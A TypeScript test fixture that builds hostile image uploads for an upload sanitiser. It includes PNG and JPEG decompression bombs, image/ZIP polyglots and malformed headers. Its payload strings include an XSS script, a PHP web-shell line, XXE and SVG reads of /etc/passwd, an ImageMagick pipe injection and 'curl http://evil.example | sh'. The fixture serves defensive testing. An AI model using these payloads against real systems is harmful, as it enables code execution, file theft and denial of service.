import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Marker that must not survive: only a file's pixels may. */
export const payload = '<script>alert(document.domain)</script><?php system($_GET[0]); ?>';

export interface HostilePicture {
  readonly name: string;
  readonly bytes: Buffer;
  /** Refused, or re-encoded so that only pixels remain. */
  readonly fate: 'refused' | 'redrawn';
}

function chunk(type: string, data: Buffer, checksum?: number): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(checksum ?? crc32(body));
  return Buffer.concat([length, body, crc]);
}

const pngStart = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function header(width: number, height: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([8, 2, 0, 0, 0], 8);
  return data;
}

/** Builds a PNG by hand, with any chunks between its header and its pixels. */
function handMadePng(width: number, height: number, between: readonly Buffer[] = []): Buffer {
  const rows = deflateSync(Buffer.alloc(Math.min((width * 3 + 1) * height, 64 * 1024 * 1024)));
  return Buffer.concat([
    pngStart,
    chunk('IHDR', header(width, height)),
    ...between,
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Noise, so that its encoding is long enough to truncate and corrupt. */
async function photo(format: 'jpeg' | 'png', side = 64): Promise<Buffer> {
  const pixels = Buffer.alloc(side * side * 3);
  // A small generator with a fixed seed: the picture is always the same.
  let state = 12_345;
  for (let index = 0; index < pixels.length; index++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    pixels[index] = state >>> 16;
  }
  const picture = sharp(pixels, { raw: { width: side, height: side, channels: 3 } });
  return format === 'jpeg' ? picture.jpeg().toBuffer() : picture.png().toBuffer();
}

function segment(marker: number, text: string | Buffer): Buffer {
  const body = Buffer.from(text);
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

function insertAfterStart(jpeg: Buffer, part: Buffer): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), part, jpeg.subarray(2)]);
}

const texts: readonly (readonly [name: string, text: string])[] = [
  ['an SVG', `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`],
  ['an SVG that reads a file', `<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>`],
  [
    'an SVG after an XML head',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
  ],
  ['an HTML page', `<!doctype html>${payload}`],
  ['a script', `#!/bin/sh\ncurl http://evil.example | sh`],
  ['PHP', payload],
  ['a PDF', '%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript >> >>'],
  ['PostScript', '%!PS\n(/etc/passwd) (r) file'],
  ['an ImageMagick script', 'push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 "|ls"\npop graphic-context'],
  ['a PPM', 'P3\n1 1\n255\n1 2 3\n'],
  ['an XBM', '#define a_width 1\n#define a_height 1\nstatic char a_bits[] = {0};'],
  ['JSON', '{"file":"x"}'],
  ['nothing', ''],
  ['one byte', '\u0000'],
  ['a JPEG that is its first bytes alone', '\u00ff\u00d8\u00ff'],
  ['a GIF', 'GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;'],
  ['a ZIP', 'PK\u0003\u0004payload'],
  ['a Windows program', 'MZ\u0090\u0000'],
  ['an ELF program', '\u007fELF\u0002\u0001\u0001'],
  ['a BMP', `BM${'\u0000'.repeat(60)}`],
  ['an icon', `\u0000\u0000\u0001\u0000\u0001\u0000${'\u0000'.repeat(60)}`],
  ['an MP4', '\u0000\u0000\u0000\u0018ftypmp42'],
  ['a HEIC', '\u0000\u0000\u0000\u0018ftypheic'],
];

async function otherFormats(): Promise<HostilePicture[]> {
  const raw = sharp(await photo('png', 16));
  const made: readonly (readonly [string, Buffer])[] = [
    ['a real WebP', await raw.clone().webp().toBuffer()],
    ['a real GIF', await raw.clone().gif().toBuffer()],
    ['a real TIFF', await raw.clone().tiff().toBuffer()],
    ['a real AVIF', await raw.clone().avif({ effort: 0 }).toBuffer()],
  ];
  return made.map(([name, bytes]) => ({ name, bytes, fate: 'refused' }));
}

function pngs(png: Buffer): HostilePicture[] {
  const bombText = Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(200 * 1024 * 1024))]);
  const bombProfile = Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(200 * 1024 * 1024))]);
  const badSum = Buffer.from(png);
  badSum.writeUInt32BE(0, 29);
  return [
    { name: 'a PNG bomb of 30000 × 30000', bytes: handMadePng(30_000, 30_000), fate: 'refused' },
    { name: 'a PNG of 2 × 16 million', bytes: handMadePng(2, 16_000_000), fate: 'refused' },
    { name: 'a PNG just past 25 megapixels', bytes: handMadePng(5001, 5000), fate: 'refused' },
    { name: 'a PNG of no width', bytes: handMadePng(0, 10), fate: 'refused' },
    { name: 'a PNG of the largest sides', bytes: handMadePng(0x7fff_ffff, 0x7fff_ffff), fate: 'refused' },
    { name: 'a PNG of negative sides', bytes: handMadePng(0xffff_ffff, 1), fate: 'refused' },
    { name: 'a PNG whose head says more than it holds', bytes: wronglySized(png), fate: 'refused' },
    { name: 'a PNG head without a body', bytes: png.subarray(0, 33), fate: 'refused' },
    { name: 'a PNG with a wrong check sum', bytes: badSum, fate: 'refused' },
    {
      name: 'a PNG with a script as text',
      bytes: handMadePng(8, 8, [chunk('tEXt', Buffer.from(`Comment\0${payload}`))]),
      fate: 'redrawn',
    },
    { name: 'a PNG with a text bomb', bytes: handMadePng(8, 8, [chunk('zTXt', bombText)]), fate: 'redrawn' },
    { name: 'a PNG with a profile bomb', bytes: handMadePng(8, 8, [chunk('iCCP', bombProfile)]), fate: 'redrawn' },
    { name: 'a PNG with a script behind its end', bytes: Buffer.concat([png, Buffer.from(payload)]), fate: 'redrawn' },
    {
      name: 'a PNG that is a ZIP too',
      bytes: Buffer.concat([png, Buffer.from(`PK\u0003\u0004${payload}`)]),
      fate: 'redrawn',
    },
  ];
}

function wronglySized(png: Buffer): Buffer {
  const data = header(4000, 4000);
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', data), png.subarray(33)]);
}

function jpegs(jpeg: Buffer): HostilePicture[] {
  const noScan = jpeg.subarray(0, jpeg.indexOf(Buffer.from([0xff, 0xda])));
  const huge = Buffer.from(jpeg);
  const frame = huge.indexOf(Buffer.from([0xff, 0xc0]));
  huge.writeUInt16BE(65_500, frame + 5);
  huge.writeUInt16BE(65_500, frame + 7);
  return [
    { name: 'a JPEG of 65500 × 65500', bytes: huge, fate: 'refused' },
    { name: 'a JPEG without pixels', bytes: Buffer.from(noScan), fate: 'refused' },
    { name: 'a JPEG with a script as comment', bytes: insertAfterStart(jpeg, segment(0xfe, payload)), fate: 'redrawn' },
    {
      name: 'a JPEG with a script as EXIF',
      bytes: insertAfterStart(jpeg, segment(0xe1, `Exif\0\0${payload}`)),
      fate: 'redrawn',
    },
    {
      name: 'a JPEG with a script as XMP',
      bytes: insertAfterStart(jpeg, segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${payload}`)),
      fate: 'redrawn',
    },
    {
      name: 'a JPEG with a script behind its end',
      bytes: Buffer.concat([jpeg, Buffer.from(payload)]),
      fate: 'redrawn',
    },
    {
      name: 'a JPEG that is a script too',
      bytes: insertAfterStart(jpeg, segment(0xfe, `*/=1;${payload}/*`)),
      fate: 'redrawn',
    },
    {
      name: 'a JPEG that is a ZIP too',
      bytes: Buffer.concat([jpeg, Buffer.from(`PK\u0003\u0004${payload}PK\u0005\u0006`)]),
      fate: 'redrawn',
    },
  ];
}

/** Returns files that must do no harm: each is refused, or only its pixels are kept. Adds `cuts` truncated files of each format. */
export async function hostilePictures(cuts: number): Promise<HostilePicture[]> {
  const [jpeg, png] = [await photo('jpeg'), await photo('png')];
  const cutAt = (bytes: Buffer, part: number): Buffer => bytes.subarray(0, 40 + Math.floor((bytes.length - 60) * part));
  const cut = Array.from({ length: cuts }, (_, index) => index / cuts).flatMap((part): HostilePicture[] => [
    { name: `a JPEG cut at ${part.toFixed(2)}`, bytes: cutAt(jpeg, part), fate: 'refused' },
    { name: `a PNG cut at ${part.toFixed(2)}`, bytes: cutAt(png, part), fate: 'refused' },
  ]);
  return [
    ...texts.map(([name, text]): HostilePicture => ({ name, bytes: Buffer.from(text, 'latin1'), fate: 'refused' })),
    ...(await otherFormats()),
    ...pngs(png),
    ...jpegs(jpeg),
    ...cut,
  ];
}
